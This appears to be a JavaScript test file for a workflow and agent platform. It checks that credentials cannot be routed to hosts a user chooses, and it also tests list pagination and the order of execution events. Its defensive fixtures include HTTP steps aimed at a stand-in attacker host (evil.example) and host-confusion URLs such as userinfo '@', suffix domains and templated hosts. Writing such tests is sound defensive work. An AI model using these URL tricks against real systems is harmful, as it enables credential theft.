// What a workflow or an agent may use is decided when it is saved: nobody reads a secret by sending it to a host of theirs. And
// what one request may ask of a process that others wait for.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { eventually, NO_LIMITS, startInstance } from "./lib/instance.mjs";
import { transform } from "./lib/flows.mjs";
import { Tenant, unknownId } from "./lib/tenants.mjs";

let lw, tenant, untyped, typed;

before(async () => {
  lw = await startInstance({ conf: NO_LIMITS });
  tenant = await new Tenant(lw, "permits").start();
  untyped = (await tenant.newCredential(undefined, { service: undefined })).id;
  typed = (await tenant.newCredential()).id;
});
after(async () => { await lw?.stop(); });

const http = (config, id = "a") => ({ id, type: "http", config: { credential_id: untyped, ...config } });
const body = (...steps) => ({ name: "w", definition: { steps } });
const save = (token, ...steps) => lw.api("POST", "/api/v1/workflows", { token, body: body(...steps) });
const change = (token, id, ...steps) => lw.api("PUT", `/api/v1/workflows/${id}`, { token, body: body(...steps) });

function refused(answer, status, code, words) {
  assert.deepEqual([answer.status, answer.json.code], [status, code], answer.text);
  if (words)
    assert.match(answer.text, words);
}

test("a member can't send a credential that says nothing of its hosts to one of theirs, in any form", async () => {
  const { member, admin } = tenant.people, api = { url: "https://api.example.com/v1/{{ .input.id }}" };
  const each = { id: "all", type: "for_each", config: { items: ".input", step: { type: "http", config: { credential_id: untyped, url: "https://evil.example" } } } };
  refused(await save(member.token, http({ url: "https://evil.example/" })), 403, "DENIED", /admin/);
  refused(await save(member.token, each), 403, "DENIED", /admin/);
  const { id } = (await save(admin.token, http(api))).json;
  for (const url of ["https://evil.example/", "https://api.example.com.evil.example/", "https://api.example.com@evil.example/", "http://api.example.com/", "https://api.example.com:444/"])
    refused(await change(member.token, id, http({ url })), 403, "DENIED", /admin/);
  refused(await change(member.token, id, http(api), each), 403, "DENIED", /admin/);
  assert.equal((await change(member.token, id, http({ url: "https://API.example.com/v2", method: "POST" }), transform("b", ".input"))).status, 200);
  assert.equal((await change(member.token, id, transform("b", ".input"))).status, 200);
  refused(await change(member.token, id, http(api)), 403, "DENIED", /admin/);
  assert.equal((await save(member.token, http({ credential_id: typed, url: "https://evil.example/" }))).status, 201, "where this one may go is its type's to say");
});

test("not even an admin lets the input say where such a credential goes", async () => {
  const { token } = tenant.people.admin;
  for (const url of ["{{ .input.url }}", "https://{{ .input.host }}/", "https://api.example.com{{ .input.more }}", "https://api.{{ .input.at }}.com/"]) {
    refused(await save(token, http({ url })), 400, "BAD_INPUT", /host/);
    assert.equal((await save(token, http({ url, credential_id: undefined }))).status, 201);
  }
  for (const url of ["https://api.example.com/{{ .input.more }}", "https://api.example.com?q={{ .input.more }}", " https://api.example.com "])
    assert.equal((await save(token, http({ url }))).status, 201);
});

test("a program saves what uses a secret only if it may use secrets", async () => {
  const narrow = (await tenant.newToken(["workflows:read", "workflows:write", "workflows:run"])).token;
  const wide = (await tenant.newToken(["workflows:read", "workflows:write", "credentials:use"])).token;
  const connector = (await tenant.does("POST", "/api/v1/connectors", { connector_type: "stripe", config: { secret_key: "sk_test_0123456789abcdefghijklmn" } })).id;
  const agent = (token, more) => lw.api("POST", "/api/v1/agents", { token, body: { name: `agent ${Math.random()}`, instructions: "Help.", ...more } });
  const steps = [http({ url: "https://api.example.com/" }), http({ credential_id: typed, url: "https://api.stripe.com/" }),
    { id: "a", type: "http", config: { connector_id: connector, url: "/v1/charges" } }];
  for (const step of steps) {
    refused(await save(narrow, step), 403, "SCOPE_MISSING", /credentials:use/);
    const { id } = (await save(wide, step)).json;
    assert.equal((await change(narrow, id, step)).status, 200, "nothing is new in it");
    refused(await change(narrow, id, step, transform("b", ".input")), 403, "SCOPE_MISSING");
  }
  assert.equal((await save(narrow, transform("a", ".input"))).status, 201);
  for (const more of [{ credential_id: typed }, { connectors: [connector] }]) {
    refused(await agent(narrow, more), 403, "SCOPE_MISSING", /credentials:use/);
    assert.equal((await agent(wide, more)).status, 201);
  }
  const { id } = (await agent(narrow)).json;
  refused(await lw.api("PUT", `/api/v1/agents/${id}`, { token: narrow, body: { name: "mine", instructions: "Help.", connectors: [connector] } }), 403, "SCOPE_MISSING");
});

test("what somebody may not save isn't passed by the check, nor copied", async () => {
  const { member, admin } = tenant.people, step = http({ url: "https://api.example.com/" }), connected = http({ credential_id: typed, url: "https://api.stripe.com/" });
  const narrow = (await tenant.newToken(["workflows:read", "workflows:write"])).token, wide = (await tenant.newToken(["workflows:read", "workflows:write", "credentials:use"])).token;
  const check = (token, definition, workflow_id) => lw.api("POST", "/api/v1/workflows/check", { token, body: { definition: { steps: [definition] }, workflow_id } });
  const copy = (token, id) => lw.api("POST", `/api/v1/workflows/${id}/clone`, { token });
  const { id } = (await save(admin.token, step)).json;
  refused(await check(member.token, step), 403, "DENIED", /admin/);
  refused(await check(member.token, http({ url: "https://evil.example/" }), id), 403, "DENIED", /admin/);
  refused(await check(admin.token, http({ url: "{{ .input.url }}" })), 400, "BAD_INPUT", /host/);
  assert.equal((await check(admin.token, step)).status, 200);
  assert.equal((await check(member.token, step, id)).status, 200, "an admin has let it go there before");
  refused(await check(member.token, step, unknownId(id)), 404, "NOT_FOUND");
  for (const named of [step, connected]) {
    refused(await check(narrow, named), 403, "SCOPE_MISSING", /credentials:use/);
    assert.equal((await check(wide, named)).status, 200);
    const saved = (await save(admin.token, named)).json;
    refused(await copy(narrow, saved.id), 403, "SCOPE_MISSING", /credentials:use/);
    assert.equal((await copy(wide, saved.id)).status, 201);
    assert.equal((await copy(member.token, saved.id)).status, 201, "it goes nowhere new");
  }
  assert.equal((await copy(narrow, (await save(narrow, transform("a", ".input"))).json.id)).status, 201);
});

test("who may not save a definition can't have one compiled", async () => {
  const check = (role) => lw.api("POST", "/api/v1/workflows/check", { token: tenant.people[role].token, body: { definition: { steps: [transform("a", ".input")] } } });
  assert.equal((await check("viewer")).status, 403);
  assert.equal((await check("member")).status, 200);
});

/** All rows of a list and the bytes of its pages, by the addresses that the pages give. */
async function pages(uri) {
  const rows = [], bytes = [];
  while (uri) {
    const answer = await lw.api("GET", uri, { token: tenant.owner.token });
    assert.equal(answer.status, 200, answer.text);
    rows.push(...answer.json);
    bytes.push(answer.text.length);
    const next = /<([^>]+)>; rel="next"/.exec(answer.headers.link ?? "")?.[1];
    uri = next && new URL(next, "https://x").pathname + new URL(next, "https://x").search;
  }
  return { rows, bytes };
}

test("a list of large rows comes in pages of some MiB, and nothing is lost between them", async () => {
  const { id } = (await save(tenant.owner.token, transform("a", "1"))).json, large = "x".repeat(500 << 10), uri = `/api/v1/workflows/${id}`;
  const executions = [], schedules = [];
  for (let i = 0; i < 12; i++) {
    executions.push((await tenant.does("POST", `${uri}/execute`, { input_data: large })).execution_id);
    schedules.push((await tenant.does("POST", `${uri}/schedules`, { cron: "0 0 1 1 *", input_data: large })).id);
  }
  for (const [list, ids] of [[`${uri}/executions`, executions], [`${uri}/schedules`, schedules]]) {
    const { rows, bytes } = await pages(`${list}?limit=200`);
    assert.deepEqual(rows.map((row) => row.id ?? row.execution_id), ids.toReversed());
    assert.ok(bytes.length > 1 && bytes.every((n) => n < 6 << 20), `${bytes}`);
  }
  assert.equal((await pages(`${uri}/executions?limit=5`)).bytes.length, 3);
});

test("the events of an execution come whole and in order, however few rows are read at once", async () => {
  const steps = Array.from({ length: 12 }, (_, i) => ({ id: `s${i}`, type: "delay", config: { delay_ms: 1 } }));
  const dependencies = Object.fromEntries(steps.slice(1).map((step, i) => [step.id, [steps[i].id]]));
  const { id } = await tenant.does("POST", "/api/v1/workflows", { name: "w", definition: { steps, dependencies } });
  const { execution_id } = await tenant.does("POST", `/api/v1/workflows/${id}/execute`, {}), uri = `/api/v1/executions/${execution_id}`;
  await eventually("it is over", async () => (await tenant.does("GET", uri)).status === "completed");
  const all = await tenant.does("GET", `${uri}/events?limit=200`);
  assert.equal(all.filter(({ type }) => type === "node:execution_complete" || type === "workflow:node_activated").length >= 12, true);
  assert.deepEqual(all.map((event) => event.number), all.map((_, i) => i + 1));
  assert.deepEqual((await tenant.does("GET", `${uri}/events?after=7&limit=9`)).map((event) => event.id), all.slice(7, 16).map((event) => event.id));
});
